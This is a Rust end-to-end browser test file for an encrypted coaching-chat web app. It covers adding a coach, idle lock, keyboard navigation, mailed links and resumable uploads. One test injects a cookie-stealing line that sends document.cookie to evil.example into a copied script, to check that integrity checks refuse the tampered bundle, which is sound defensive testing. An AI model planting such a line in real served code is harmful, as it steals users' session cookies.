    assert_eq!(texts(&seen), ["Eerste bericht"], "the client reads no note");
    assert!(!seen
        .iter()
        .any(|e| matches!(e.content, EntryContent::Note { .. })));
    // A second coach, added from the page: the dialog says what it means,
    // the history shows the join, and the SDK's new epoch lets her read
    // what is written after it (not before).
    let mut nina = practice
        .join(
            None,
            "nina@p.nl",
            Role::Coach,
            &server.base,
            Arc::new(MemoryStore::new()),
        )
        .await;
    b.step("click", json!([".add-coach"]));
    b.step("waitForText", json!(["dialog", "leest vanaf nu mee"]));
    screenshot(&mut b, "web-add-coach-nl");
    // The same in English, and on a phone.
    b.step("click", json!(["dialog button.secondary"]));
    b.step("click", json!([".topbar button[lang]"]));
    b.step("click", json!([".add-coach"]));
    b.step(
        "waitForText",
        json!(["dialog", "From now on this coach reads"]),
    );
    screenshot(&mut b, "web-add-coach-en");
    b.step("viewport", json!([360, 740]));
    screenshot(&mut b, "web-add-coach-en-phone");
    b.step("viewport", json!([1200, 800]));
    b.step("click", json!(["#add-coach-confirm"]));
    b.step(
        "waitForText",
        json!([".composer-status", "The coach was added"]),
    );
    b.step(
        "waitForText",
        json!([".messages", "nina@p.nl (coach) joined on"]),
    );
    b.step("click", json!([".topbar button[lang]"]));
    b.step(
        "waitForText",
        json!([".messages", "nina@p.nl (coach) kwam erbij"]),
    );
    assert_eq!(
        b.step("count", json!(["#join-banner:not([hidden])"])),
        0,
        "no banner for the join she made herself"
    );
    b.step("viewport", json!([360, 740]));
    screenshot(&mut b, "web-coach-conversation-nl-phone");
    b.step("viewport", json!([1200, 800]));
    b.step("fill", json!(["#composer", "Nina leest vanaf nu mee."]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step(
        "waitForText",
        json!([".messages", "Nina leest vanaf nu mee."]),
    );
    let nina_sees = texts(&nina.dialogue(rid).await.unwrap());
    assert!(
        nina_sees.contains(&"Nina leest vanaf nu mee.".to_owned())
            && !nina_sees.contains(&"Eerste bericht".to_owned()),
        "{nina_sees:?}"
    );
    b.step(
        "waitForTextLong",
        json!([".notice", "zonder activiteit", 90000]),
    );
    assert_eq!(
        b.step("count", json!([".messages"])),
        0,
        "the dialogue is gone"
    );
    screenshot(&mut b, "web-idle-locked-nl");
    sign_in(&mut b, "carla@p.nl", PASSWORD);
    b.step("waitForText", json!([".messages", "Eerste bericht"]));
    no_problems(&mut b, "the idle lock");
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

/// A server that alters the web client it serves — one script, or the
/// WebAssembly — gets a refusal from the browser (Subresource Integrity
/// in the page it serves), and `kluis verify-web` names the altered file
/// against the manifest built from source (exit 7), while the genuine
/// bundle passes. (A server that alters index.html itself, hashes and
/// all, is caught by verify-web only: THREAT_MODEL.md says so.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_bundle_is_refused() {
    let dist = repo().join("web/dist");
    let genuine = Server::start_with(
        Engine::Sqlite,
        BIN,
        &[("KLUIS_WEB_DIR", dist.to_str().unwrap())],
    );
    let altered_js = kluis_test_support::temp_dir();
    copy_dir(&dist, altered_js.path());
    let forms = altered_js.path().join("js/forms.js");
    let mut text = std::fs::read_to_string(&forms).unwrap();
    text.push_str("\nfetch('https://evil.example/?' + document.cookie);\n");
    std::fs::write(&forms, text).unwrap();
    // An attacker alters what is sent: the compressed copies too (here,
    // gone, so that the altered file itself is what browsers get).
    let drop_copies = |file: &std::path::Path| {
        for ext in ["br", "gz"] {
            std::fs::remove_file(format!("{}.{ext}", file.display())).unwrap();
        }
    };
    drop_copies(&forms);
    let altered_wasm = kluis_test_support::temp_dir();
    copy_dir(&dist, altered_wasm.path());
    let wasm = altered_wasm.path().join("pkg/kluis_sdk_bg.wasm");
    let mut bytes = std::fs::read(&wasm).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(&wasm, bytes).unwrap();
    drop_copies(&wasm);
    let js_server = Server::start_with(
        Engine::Sqlite,
        BIN,
        &[("KLUIS_WEB_DIR", altered_js.path().to_str().unwrap())],
    );
    let wasm_server = Server::start_with(
        Engine::Sqlite,
        BIN,
        &[("KLUIS_WEB_DIR", altered_wasm.path().to_str().unwrap())],
    );

    let mut b = Browser::open(&genuine.base);
    let ok = b.step("load", json!([format!("{}/", genuine.base), 30000]));
    assert_eq!(ok["came_up"], true, "{ok}");
    let refused = b.step("load", json!([format!("{}/", js_server.base), 5000]));
    assert_eq!(refused["came_up"], false, "{refused}");
    assert!(
        refused["problems"].to_string().contains("integrity"),
        "the browser says why: {refused}"
    );
    let refused = b.step("load", json!([format!("{}/", wasm_server.base), 30000]));
    assert_eq!(refused["came_up"], false, "{refused}");
    assert!(
        refused.to_string().contains("integrity"),
        "the wasm is refused for its digest: {refused}"
    );

    let manifest = dist.join("bundle-manifest.json");
    let verify = |base: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_kluis-cli-e2e"))
            .args(["verify-web", base, "--manifest", manifest.to_str().unwrap()])
            .output()
            .unwrap()
    };
    let out = verify(&genuine.base);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(said.contains("is the bundle built from source"), "{said}");
    for (server, file) in [
        (&js_server, "js/forms.js"),
        (&wasm_server, "pkg/kluis_sdk_bg.wasm"),
    ] {
        let out = verify(&server.base);
        let said = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(7), "{said}");
        assert!(said.contains(file), "{said}");
    }
}

/// Presses Tab until the focus is on an element whose description
/// (`tag#id text`) contains `target`; panics after `most` presses.
fn tab_to(b: &mut Browser, target: &str, most: usize) {
    for _ in 0..most {
        b.step("key", json!(["Tab"]));
        let at = b.step("focused", json!([]));
        if at.as_str().unwrap().contains(target) {
            return;
        }
    }
    panic!("{target} not reached by Tab in {most} presses");
}

/// Signing up and sending a message with the keyboard alone: every step
/// reachable by Tab, Enter and typing, the focus where the next step is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keyboard_only_in_chromium() {
    let server = web_server(Engine::Sqlite, &[]);
    let practice = Practice::set_up(&server).await;
    let (mut coach, invitation) = coach_inviting_kees(&practice).await;
    let mut b = Browser::open(&server.base);
    b.step("viewport", json!([1200, 800]));
    b.step("goto", json!([invitation]));
    b.step("waitFor", json!(["#name"]));
    assert_eq!(
        b.step("focused", json!([])),
        "input#name",
        "the first field"
    );
    b.step("typeKeys", json!(["Kees de Boer"]));
    b.step("key", json!(["Tab"]));
    assert_eq!(b.step("focused", json!([])), "input#password");
    b.step("typeKeys", json!([PASSWORD]));
    b.step("key", json!(["Enter"]));
    b.step("waitFor", json!(["#recovery-key"]));
    let key = b.step("text", json!(["#recovery-key"]));
    let tail: String = key
        .as_str()
        .unwrap()
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .collect::<String>()
        .split_off(52);
    // The account exists now: the coach starts the conversation.
    let (rid, _) = start_conversation(&practice, &mut coach, "kees@p.nl", "Welkom!").await;
    tab_to(&mut b, "input#key-tail", 4);
    b.step("typeKeys", json!([tail]));
    b.step("key", json!(["Tab"]));
    b.step("key", json!(["Enter"]));
    b.step("waitForText", json!(["main", "Right to lodge a complaint"]));
    assert!(b
        .step("focused", json!([]))
        .as_str()
        .unwrap()
        .starts_with("button"));
    b.step("key", json!(["Enter"]));
    b.step("waitFor", json!(["button.relationship"]));
    tab_to(&mut b, "carla@p.nl", 10);
    b.step("key", json!(["Enter"]));
    b.step("waitForText", json!([".messages", "Welkom!"]));
    assert_eq!(
        b.step("focused", json!([])),
        "textarea#composer",
        "the conversation opens at the composer"
    );
    b.step("typeKeys", json!(["Met het toetsenbord verstuurd."]));
    b.step("key", json!(["Enter"]));
    b.step("waitForText", json!([".messages", "Met het toetsenbord"]));
    assert_eq!(
        texts(&coach.dialogue(rid).await.unwrap()),
        ["Welkom!", "Met het toetsenbord verstuurd."]
    );
    no_problems(&mut b, "the keyboard pass");
}

/// The links Kluis mails, opened in the page: "forgot password" asks for
/// the reset link; the reset page sets a new password; signing in with
/// it asks for the recovery key, which brings the conversation back
/// (its old messages readable). A new address a manager proposed is
/// confirmed from the link sent to the old one, and the new address is
/// proven from the link sent to it. A used link says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mailed_links_in_chromium() {
    let server = web_server(Engine::Sqlite, &[]);
    let practice = Practice::set_up(&server).await;
    let (mut coach, invitation) = coach_inviting_kees(&practice).await;
    let mut b = Browser::open(&server.base);
    b.step("viewport", json!([1200, 800]));
    b.step("goto", json!([invitation]));
    b.step("waitFor", json!(["#name"]));
    b.step("fill", json!(["#name", "Kees de Boer"]));
    b.step("fill", json!(["#password", PASSWORD]));
    b.step("press", json!(["#password", "Enter"]));
    let recovery_key = b.keep_recovery_key();
    b.acknowledge_privacy_notice("Right to lodge a complaint");
    let (_, kees_id) =
        start_conversation(&practice, &mut coach, "kees@p.nl", "Voor je vergeet").await;

    // Forgot the password: the link, a new password, the recovery key.
    b.step("click", json!([".topbar .actions button:last-child"]));
    b.step("click", json!([".switch button.link:has-text(\"Forgot\")"]));
    b.step("fill", json!(["#email", "kees@p.nl"]));
    b.step("press", json!(["#email", "Enter"]));
    b.step(
        "waitForText",
        json!(["main", "a link is now in that mailbox"]),
    );
    let reset = Server::link_in(&server.mail("kees@p.nl", "password_reset").await);
    b.step("goto", json!([format!("{}/", server.base)]));
    b.step("goto", json!([reset.clone()]));
    b.step("waitForText", json!(["h2", "New password"]));
    b.step("fill", json!(["#password", "Nieuw-Wachtwoord-73"]));
    b.step("press", json!(["#password", "Enter"]));
    b.step(
        "waitForText",
        json!([".notice", "Your password was changed"]),
    );
    sign_in(&mut b, "kees@p.nl", "Nieuw-Wachtwoord-73");
    b.step("waitForText", json!(["h2", "Get your conversations back"]));
    screenshot(&mut b, "web-restore-en");
    b.step("fill", json!(["#recovery", "AAAA"]));
    b.step("press", json!(["#recovery", "Enter"]));
    b.step(
        "waitForText",
        json!(["#form-message", "does not look like a recovery key"]),
    );
    b.step("fill", json!(["#recovery", recovery_key]));
    b.step("press", json!(["#recovery", "Enter"]));
    b.step("waitFor", json!(["button.relationship"]));
    b.step("click", json!(["button.relationship"]));
    b.step("waitForText", json!([".messages", "Voor je vergeet"]));
    assert_eq!(
        b.step("count", json!([".shield.changed"])),
        0,
        "the same identity: the coach sees no change, nor does Kees"
    );
    // The reset link works once.
    b.step("goto", json!([format!("{}/", server.base)]));
    b.step("goto", json!([reset]));
    b.step("fill", json!(["#password", "Nog-Een-Wachtwoord-9"]));
    b.step("press", json!(["#password", "Enter"]));
    b.step(
        "waitForText",
        json!(["#form-message", "expired or was used"]),
    );

    // A new address, proposed by the manager: confirmed from the old
    // mailbox's link, then proven from the new one's.
    practice
        .manager
        .propose_member_email(&practice.org, kees_id, "kees@nieuw.nl")
        .await
        .unwrap();
    let proposal = Server::link_in(&server.mail("kees@p.nl", "email_change_proposed").await);
    b.step("goto", json!([format!("{}/", server.base)]));
    b.step("goto", json!([proposal.clone()]));
    b.step("waitForText", json!(["h2", "A new email address"]));
    screenshot(&mut b, "web-email-change-en");
    b.step("click", json!(["main button.primary"]));
    b.step(
        "waitForText",
        json!(["main", "From now on you sign in with the new address"]),
    );
    let verify = Server::link_in(&server.mail("kees@nieuw.nl", "verify_email").await);
    b.step("goto", json!([format!("{}/", server.base)]));
    b.step("goto", json!([verify.clone()]));
    b.step(
        "waitForText",
        json!(["main", "Your email address is confirmed"]),
    );
    b.step("goto", json!([format!("{}/", server.base)]));
    b.step("goto", json!([verify]));
    b.step("waitForText", json!(["main", "expired or was used"]));
    b.step("click", json!(["main button.primary"]));
    let listed = practice.manager.members(&practice.org).await.unwrap();
    assert!(listed.iter().any(|m| m.email == "kees@nieuw.nl"));
    sign_in(&mut b, "kees@nieuw.nl", "Nieuw-Wachtwoord-73");
    b.step("waitFor", json!(["button.relationship"]));
    no_problems(&mut b, "the mailed links");
}

/// An upload cut off in the middle — the network gone, the server out of
/// reach — says how far it got and keeps the file; "continue uploading"
/// sends only what the server does not have yet (not the first segment
/// again), and the file arrives whole, byte for byte. The cable is a TCP
/// relay the test pulls once 6 MiB of a 12 MiB upload went up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_cut_off_continues_in_chromium() {
    let (mut cable, listener) = Cable::bind().await;
    // The server behind the cable: its own port, the cable's address as
    // its public one (the page's origin, the links it mails).
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let bind = format!("127.0.0.1:{port}");
    let server = web_server(
        Engine::Sqlite,
        &[("KLUIS_BIND", &bind), ("KLUIS_PUBLIC_URL", &cable.base)],
    );
    cable.connect(listener, &format!("http://{bind}"));
    let practice = Practice::set_up(&server).await;
    let (mut coach, invitation) = coach_inviting_kees(&practice).await;
    let mut b = Browser::open(&cable.base);
    b.step("viewport", json!([1200, 800]));
    b.sign_up(&invitation, "Kees de Boer", PASSWORD);
    let (rid, _) = start_conversation(&practice, &mut coach, "kees@p.nl", "Welkom!").await;
    b.keep_recovery_key();
    b.acknowledge_privacy_notice("Right to lodge a complaint");
    b.step("click", json!(["button.relationship"]));
    b.step("waitForText", json!([".messages", "Welkom!"]));

    let files = kluis_test_support::temp_dir();
    let whole: Vec<u8> = (0..12 * 1024 * 1024 + 77u32)
        .map(|i| (i.wrapping_mul(2_246_822_519) >> 23) as u8)
        .collect();
    let path = files.path().join("groot-verslag.pdf");
    std::fs::write(&path, &whole).unwrap();
    cable.pull_after(6 * 1024 * 1024);
    b.step("upload", json!(["#attach", path.to_str().unwrap()]));
    b.step(
        "waitForTextLong",
        json!([".upload.error", "stopped after", 60_000]),
    );
    assert!(cable.is_pulled());
    let said = b.step("text", json!([".upload.error p"]));
    assert!(
        said.as_str().unwrap().contains("cannot be reached"),
        "{said}"
    );
    screenshot(&mut b, "web-upload-interrupted-en");
    b.step("viewport", json!([360, 740]));
    screenshot(&mut b, "web-upload-interrupted-en-phone");
    // Drawn again in Dutch, the interrupted upload is still there, ready
    // to go on.
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitForText", json!([".upload.error", "onderbroken na"]));
    screenshot(&mut b, "web-upload-interrupted-nl-phone");
    b.step("viewport", json!([1200, 800]));
    screenshot(&mut b, "web-upload-interrupted-nl");
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitForText", json!([".upload.error", "stopped after"]));
    // The page's failed fetches are logged as errors while the cable is
    // out: expected here.
    b.step("problems", json!([]));

    cable.plug();
    b.step("click", json!([".upload.error button.secondary"]));
    b.step(
        "waitForTextLong",
        json!([".messages", "groot-verslag.pdf", 60_000]),
    );
    let resent = cable.bytes_up();
    assert!(
        // The first 4 MiB segment was acknowledged before the cut.
        resent < whole.len() as u64 - 3 * 1024 * 1024,
        "{resent} bytes went up again for {} bytes",
        whole.len()
    );
    assert_eq!(b.step("count", json!([".upload"])), 0);
    let got = document_bytes(&mut coach, rid, "groot-verslag.pdf").await;
    assert!(got == whole, "the file arrives whole");
    no_problems(&mut b, "after the upload went on");

    // Down again through the save picker: written into the chosen file as
    // it is decrypted (memory flat), the same bytes.
    b.step("streamDownloads", json!([]));
    b.step(
        "click",
        json!([".document:has-text(\"groot-verslag.pdf\") button.download"]),
    );
    b.step(
        "waitForTextLong",
        json!([".document", "groot-verslag.pdf was downloaded", 60_000]),
    );
    let saved = b.step("opfsFile", json!(["groot-verslag.pdf"]));
    assert_eq!(saved["size"], whole.len());
    assert_eq!(
        saved["sha256"],
        format!("{:x}", <sha2::Sha256 as sha2::Digest>::digest(&whole)),
        "the file written through the picker"
    );
    no_problems(&mut b, "the streamed download");
}
